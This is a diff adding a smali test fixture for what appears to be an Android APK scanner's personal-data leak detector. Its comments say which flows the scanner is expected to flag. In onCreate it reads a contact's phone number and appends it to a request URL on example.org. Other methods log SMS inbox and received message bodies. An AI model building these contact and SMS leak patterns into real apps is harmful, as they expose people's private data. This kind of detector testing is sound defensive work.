@@ -1,0 +1,121 @@
+.class public Lorg/apkscan/test/pd/Main;
+.super Landroid/app/Activity;
+
+# A contact's phone number read from the contacts provider goes into a
+# request's address, a text message read from the SMS provider and one
+# received are logged; a row of the media provider is not personal.
+
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+
+.method private first(Landroid/net/Uri;)Ljava/lang/String;
+    .registers 8
+    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v0
+    const/4 v2, 0x0
+    move-object v1, p1
+    move-object v3, v2
+    move-object v4, v2
+    move-object v5, v2
+    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v0
+    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
+    const/4 v1, 0x0
+    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v0
+    return-object v0
+.end method
+
+.method protected onCreate(Landroid/os/Bundle;)V
+    .registers 9
+    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
+    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v0
+    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
+    const/4 v2, 0x0
+    move-object v3, v2
+    move-object v4, v2
+    move-object v5, v2
+    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v0
+    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
+    const/4 v1, 0x0
+    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v0
+    new-instance v1, Ljava/lang/StringBuilder;
+    const-string v2, "https://example.org/c?n="
+    invoke-direct {v1, v2}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    move-result-object v1
+    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v1
+    new-instance v2, Ljava/net/URL;
+    invoke-direct {v2, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    return-void
+.end method
+
+# The text messages, by a parsed URI with a path.
+.method protected onResume()V
+    .registers 8
+    invoke-super {p0}, Landroid/app/Activity;->onResume()V
+    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
+    move-result-object v0
+    const-string v1, "content://sms/inbox"
+    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
+    move-result-object v1
+    const/4 v2, 0x0
+    move-object v3, v2
+    move-object v4, v2
+    move-object v5, v2
+    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
+    move-result-object v0
+    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
+    const-string v1, "body"
+    invoke-interface {v0, v1}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
+    move-result v1
+    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
+    move-result-object v0
+    const-string v1, "sms"
+    invoke-static {v1, v0}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
+    return-void
+.end method
+
+# Pictures are not personal data here (read through a helper, which
+# takes the URI as a parameter: a query whose URI the method does not
+# show is no source).
+.method protected onStart()V
+    .registers 4
+    invoke-super {p0}, Landroid/app/Activity;->onStart()V
+    const-string v0, "content://media/external/images/media"
+    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
+    move-result-object v0
+    invoke-direct {p0, v0}, Lorg/apkscan/test/pd/Main;->first(Landroid/net/Uri;)Ljava/lang/String;
+    move-result-object v0
+    const-string v1, "media"
+    invoke-static {v1, v0}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
+    return-void
+.end method
+
+.method public received([B)V
+    .registers 4
+    invoke-static {p1}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
+    move-result-object v0
+    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
+    move-result-object v0
+    const-string v1, "received"
+    invoke-static {v1, v0}, Landroid/util/Log;->e(Ljava/lang/String;Ljava/lang/String;)I
+    return-void
+.end method
+
+.method protected onPause()V
+    .registers 3
+    invoke-super {p0}, Landroid/app/Activity;->onPause()V
+    const/4 v0, 0x0
+    new-array v0, v0, [B
+    invoke-virtual {p0, v0}, Lorg/apkscan/test/pd/Main;->received([B)V
+    return-void
+.end method
